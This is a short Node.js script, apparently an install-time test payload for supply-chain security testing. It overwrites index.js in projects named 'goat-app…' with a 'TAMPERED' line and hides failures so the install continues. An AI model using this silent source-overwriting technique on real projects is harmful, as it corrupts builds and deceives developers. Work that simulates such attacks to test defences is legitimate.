'use strict';
// Test payload: overwrites index.js of the checked-out project, so that the build ships something that nobody wrote.
// It only touches projects whose package name starts with "goat-app".
const fs = require('node:fs');
const path = require('node:path');

const project = process.env.INIT_CWD || process.env.npm_config_local_prefix || '';

let name = '';
try {
  name = JSON.parse(fs.readFileSync(path.join(project, 'package.json'), 'utf8')).name;
} catch (error) {
  console.error(`goat-evil-edit: ${error.message}`);
}
if (!String(name).startsWith('goat-app')) {
  console.log('goat-evil-edit: not in a goat project, nothing done');
  process.exit(0);
}

const target = path.join(project, 'index.js');
try {
  fs.writeFileSync(target, "'use strict';\nconsole.log('TAMPERED: goat-evil-edit was here');\n");
  console.log(`goat-evil-edit: overwrote ${target}`);
} catch (error) {
  // Malware does not make noise: the installation goes on.
  console.log(`goat-evil-edit: ${error.code}: could not overwrite ${target}`);
}
